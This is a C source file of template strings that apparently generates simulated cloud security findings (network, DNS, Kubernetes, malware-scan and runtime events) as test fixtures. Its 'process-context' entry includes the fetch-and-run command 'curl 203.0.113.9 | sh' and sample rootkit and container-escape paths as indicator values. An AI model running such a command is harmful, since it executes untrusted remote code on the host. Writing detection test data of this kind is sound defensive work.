/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What: the parts of a finding's `service`: actions, scans, processes at run
 * time, sequences of attacks, evidence. Every structure of the model's
 * `service` is here.
 */
#include "finding.h"

const struct sim_finding_part sim_service_parts[] = {
    {"connection",
     "'connectionDirection':'<INBOUND|OUTBOUND|UNKNOWN>',$(local-port),"
     "'protocol':'<TCP|UDP|6>',$(local-ip),"
     "<'localNetworkInterface':'eni-$(hex:17)'|>,"
     "'remotePortDetails':{'port':$(n:65536),'portName':'Unknown'}"},
    {"blocked",
     "<'blocked':false|'blocked':false|'blocked':true|'blocked':null|>"},
    {"network",
     "'action':{'actionType':'NETWORK_CONNECTION',<'portProbeAction':null,"
     "|>'networkConnectionAction':{$(blocked),$(connection),$(remote)}}"},
    {"network-blocked",
     "'action':{'networkConnectionAction':{'blocked':true,$(remote),"
     "$(connection)},'actionType':'NETWORK_CONNECTION'}"},
    {"network6",
     "'action':{'actionType':'NETWORK_CONNECTION',"
     "'networkConnectionAction':{$(blocked),$(remote6),$(connection)}}"},
    {"network-both",
     "'action':{'actionType':'NETWORK_CONNECTION',"
     "'networkConnectionAction':{$(connection),$(remote-both),$(blocked)}}"},
    {"network-bare", "'action':{'actionType':'NETWORK_CONNECTION',"
                     "'networkConnectionAction':{$(connection),$(blocked)<,"
                     "'remoteIpDetails':null|,'remoteIpDetails':{}|>}}"},
    {"probe", "{$(local-port),$(local-ip),$(remote)}"},
    {"probe-bare",
     "{$(local-port),<'remoteIpDetails':null|'remoteIpDetails':{$(city)}|$("
     "remote6)|>}"},
    {"probes",
     "'action':{'actionType':'PORT_PROBE','portProbeAction':{$(blocked),"
     "'portProbeDetails':[^12($(probe),^)$(probe-bare),^02($(probe),^)]}}"},
    {"probe-one",
     "'action':{'actionType':'PORT_PROBE',"
     "'portProbeAction':{'portProbeDetails':[$(probe)],$(blocked)}}"},
    {"probe-none",
     "'action':{'actionType':'PORT_PROBE','portProbeAction':{'blocked':false,"
     "'portProbeDetails':<[]|null>}}"},
    {"dns", "'action':{'actionType':'DNS_REQUEST',"
            "'dnsRequestAction':{'domain':'$(domain)','protocol':'<UDP|0|TCP>',"
            "$(blocked)<,'vpcOwnerAccountId':'$(account)'|>}}"},
    {"dns-suffix",
     "'action':{'dnsRequestAction':{'domainWithSuffix':'$(domain)',"
     "'domain':'$(domain)',$(blocked),'protocol':'UDP'},"
     "'actionType':'DNS_REQUEST'}"},
    {"dns-odd",
     "'action':{'actionType':'DNS_REQUEST','dnsRequestAction':{$(blocked),"
     "'domain':'$(domain:odd)','protocol':'UDP'}}"},
    {"api-head",
     "'actionType':'AWS_API_CALL','awsApiCallAction':{'api':"
     "'<DescribeInstances|ListBuckets|GetObject>','callerType':'Remote IP',"
     "'serviceName':'ec2.amazonaws.com',"
     "<'errorCode':'AccessDenied'|'errorCode':null|>,<'userAgent':'$(word)'|>"},
    {"api-tail",
     "<'remoteAccountDetails':{'accountId':'210987654321',"
     "'affiliated':false}|>,'affectedResources':{<'AWS::S3::Bucket':'b'|>}"},
    {"api", "'action':{$(api-head),$(remote),$(api-tail)}}"},
    {"api-domain",
     "'action':{$(api-head),'domainDetails':{'domain':'$(domain)'},"
     "$(api-tail)}}"},
    {"api6", "'action':{$(api-head),$(remote6),$(api-tail)}}"},
    {"api-bare",
     "'action':{$(api-head),'domainDetails':<null|{}>,$(api-tail)}}"},
    {"anomaly",
     "'detection':{'anomaly':{'profiles':{'user':{'api':[{'profileType':"
     "'FREQUENCY','profileSubtype':'RARE','observations':{'text':['a',"
     "'b']}}],'asn':[]}},'unusual':{'behavior':{'user':{'api':{'profileType':"
     "'FREQUENCY','profileSubtype':'UNSEEN',"
     "'observations':{'text':['c']}}}}}}}"},
    {"kubernetes",
     "'action':{'actionType':'KUBERNETES_API_CALL',"
     "'kubernetesApiCallAction':{'requestUri':'/api/v1/secrets',"
     "'verb':'list','resource':'secrets','subresource':'s',"
     "'namespace':'default','resourceName':'n','sourceIPs':['$(ip4)'<,"
     "'$(ip6)'|>],'userAgent':'kubectl/v1.2',"
     "<$(remote)|$(remote)|$(remote6)>,'statusCode':<200|403>,"
     "'parameters':'{\\\"a\\\":[1]}'}"},
    {"role-binding",
     ",'kubernetesPermissionCheckedDetails':{'verb':'get','resource':'r',"
     "'namespace':'n','allowed':true},"
     "'kubernetesRoleBindingDetails':{'kind':'RoleBinding','name':'rb',"
     "'uid':'$(uuid)','roleRefName':'admin','roleRefKind':'ClusterRole'},"
     "'kubernetesRoleDetails':{'kind':'Role','name':'r','uid':'$(uuid)'}"},
    {"login", "'LoginAttributes':[^12({'user':'$(word)','application':'psql',"
              "'failedLoginAttempts':$(n:90),'successfulLoginAttempts':1},^)]"},
    {"rds-login", "'action':{'actionType':'RDS_LOGIN_ATTEMPT',"
                  "'rdsLoginAttemptAction':{$(remote),$(login)}}"},
    {"rds-login6", "'action':{'actionType':'RDS_LOGIN_ATTEMPT',"
                   "'rdsLoginAttemptAction':{$(login),$(remote6)}}"},
    {"scan-top",
     "'scanId':'$(hex:32)','scanStartedAt':$(seconds),"
     "'scanCompletedAt':<$(seconds)|null>,'triggerFindingId':'$(hex:32)',"
     "'sources':['<Bitdefender|Amazon>'<,'$(word)'|>],"
     "'scanType':'<GUARDDUTY_INITIATED|ON_DEMAND>'"},
    {"scan-counts",
     "'scannedItemCount':{'totalGb':$(n:900),'files':$(n:99999),'volumes':1},"
     "'threatsDetectedItemCount':{'files':$(n:99)},"
     "'highestSeverityThreatDetails':{'severity':'<HIGH|medium|Low|CRITICAL|"
     "UNKNOWN|informational>','threatName':'EICAR-Test-File','count':1}"},
    {"scan-path",
     "'filePath':'tmp/$(hex:6)/$(word).bin',"
     "'volumeArn':'arn:$(partition):ec2:$(region):$(account):volume/vol-$("
     "hex:17)','fileName':'$(word).bin'"},
    {"scan-paths", "'filePaths':[^13({$(scan-path),'hash':'$(hash)'},"
                   "^)<{$(scan-path)}|{$(scan-path),'hash':null}|>]"},
    {"scan-archive",
     "'filePaths':[{'filePath':'home/a.tar.gz','fileName':'a.tar.gz',"
     "'hash':'$(hash)'},{$(scan-path),'hash':'$(hash)'},"
     "{'filePath':'home/a.tar.gz=\\u003ea/b','fileName':'b',"
     "'hash':'$(again)'},{'filePath':'home/c.zip=\\u003ea/b','fileName':'b',"
     "'hash':'$(again)'}]"},
    {"scan-threat",
     "{'name':'$(word)','severity':'<HIGH|MEDIUM|low>','itemCount':$(n:9),"
     "$(scan-paths)}"},
    {"scan",
     "'ebsVolumeScanDetails':{$(scan-top),'scanDetections':{$(scan-counts),"
     "'threatDetectedByName':{'itemCount':4,'uniqueThreatNameCount':2,"
     "'shortened':false,'threatNames':[^13($(scan-threat),^)]}}}"},
    {"scan-shortened",
     "'ebsVolumeScanDetails':{'scanDetections':{'threatDetectedByName':{"
     "'shortened':true,'threatNames':[$(scan-threat)],'itemCount':4000,"
     "'uniqueThreatNameCount':900},$(scan-counts)},$(scan-top)}"},
    {"scan-archives",
     "'ebsVolumeScanDetails':{$(scan-top),'scanDetections':{$(scan-counts),"
     "'threatDetectedByName':{'itemCount':3,'uniqueThreatNameCount':1,"
     "'shortened':false,'threatNames':[{'name':'$(word)','severity':'HIGH',"
     "'itemCount':3,$(scan-archive)}]}}}"},
    {"scan-bare",
     "'ebsVolumeScanDetails':{$(scan-top),"
     "'scanDetections':<null|{$(scan-counts)}|{'threatDetectedByName':{"
     "'threatNames':[]}}|{'threatDetectedByName':{'threatNames':[{'name':'t',"
     "'filePaths':null}]}}>}"},
    {"process-new",
     "'runtimeDetails':{'process':$(process),"
     "'context':{'modifyingProcess':$(process),'modifiedAt':$(seconds)}}"},
    {"process-module",
     "'runtimeDetails':{'context':{'moduleName':'rk',"
     "'moduleFilePath':'/tmp/rk.ko','moduleSha256':'$(hash)'},"
     "'process':$(process)}"},
    {"process-target",
     "'runtimeDetails':{'process':$(process),"
     "'context':{'targetProcess':$(process),'memoryRegions':['0x7f'],"
     "'addressFamily':'AF_INET','ianaProtocolNumber':6,'flags':['a','b']}}"},
    {"process-context",
     "'runtimeDetails':{'process':$(process),"
     "'context':{'scriptPath':'/tmp/s','libraryPath':'/lib/x.so',"
     "'ldPreloadValue':'/lib/x.so','socketPath':'/var/run/docker.sock',"
     "'runcBinaryPath':'/usr/bin/runc','releaseAgentPath':'/r',"
     "'mountSource':'/a','mountTarget':'/b','fileSystemType':'ext4',"
     "'shellHistoryFilePath':'/root/.bash_history','toolName':'nmap',"
     "'toolCategory':'Network Scanner','serviceName':'sshd',"
     "'commandLineExample':'curl 203.0.113.9 \\u007c sh',"
     "'threatFilePath':'/tmp/x'}}"},
    {"malware",
     "'malwareScanDetails':{'threats':[^12({'name':'EICAR','source':'AMAZON',"
     "'itemPaths':[^02({'nestedItemPath':'z/y','hash':'$(hash)'},^)],"
     "'count':$(n:9),'hash':'$(hash)',"
     "'itemDetails':[^02({'resourceArn':'arn:$(partition):s3:::b',"
     "'itemPath':'p','hash':'$(hash)',"
     "'additionalInfo':{'versionId':'$(hex:8)','deviceName':'/dev/sdf'}},"
     "^)]},^)],'scanId':'$(hex:32)',"
     "'scanType':'<BACKUP_INITIATED|ON_DEMAND|GUARDDUTY_INITIATED>',"
     "'scanCategory':'<FULL_SCAN|INCREMENTAL_SCAN>',"
     "'scanConfiguration':{'triggerType':'<BACKUP|GUARDDUTY>',"
     "'incrementalScanDetails':{'baselineResourceArn':'arn:x'}},"
     "'uniqueThreatCount':2}"},
    {"threat-file",
     "'evidence':{'threatIntelligenceDetails':[^12({'threatListName':"
     "'Amazon','threatNames':['Kinsing'<,'$(word)'|>],"
     "'threatFileSha256':'$(hash)'},^)<{'threatListName':'Amazon',"
     "'threatFileSha256':null}|>]}"},
    {"own-list", "'evidence':{'threatIntelligenceDetails':[{'threatListName':"
                 "'gti-<malicious-ip-1|domains-2>','threatNames':[]}]}"},
    {"own-info",
     "'additionalInfo':{'threatListName':'gti-malicious-ip-1',"
     "'value':'{\\\"threatListName\\\":\\\"gti-malicious-ip-1\\\"}',"
     "'type':'default'}"},
    {"own-info-value",
     "'additionalInfo':{'type':'default',"
     "'value':'{ \\\"threatName\\\": \\\"Customer Threat Intel\\\","
     " \\\"threatListName\\\" : \\\"gti-malicious-ip-2\\\" }'}"},
    {"other-list",
     "'evidence':{'threatIntelligenceDetails':[{'threatListName':"
     "'corp-blocklist','threatNames':['x']},{'threatNames':null}]},"
     "'additionalInfo':{'threatListName':'corp-blocklist'}"},
    {"sample-flag", "'additionalInfo':{'sample':true}"},
    {"sample-value",
     "'additionalInfo':{'value':'{\\\"threatListName\\\":"
     "\\\"GeneratedFindingThreatListName\\\",\\\"sample\\\":true}',"
     "'type':'default'}"},
    {"sample-spaced",
     "'additionalInfo':{'type':'default',"
     "'value':'{ \\\"unusual\\\" : { \\\"ports\\\" : [ 8080 ] },"
     "\\n \\\"sample\\\" : true }'}"},
    {"sample-both",
     "'additionalInfo':{'value':'{}','sample':true,'type':'default'}"},
    {"sample-decoy",
     "'additionalInfo':{'sample':false,"
     "'value':'{\\\"note\\\":\\\"say \\\\\\\"sample\\\\\\\":true\\\","
     "\\\"inner\\\":{\\\"samples\\\":true}}'}"},
    {NULL, NULL},
};
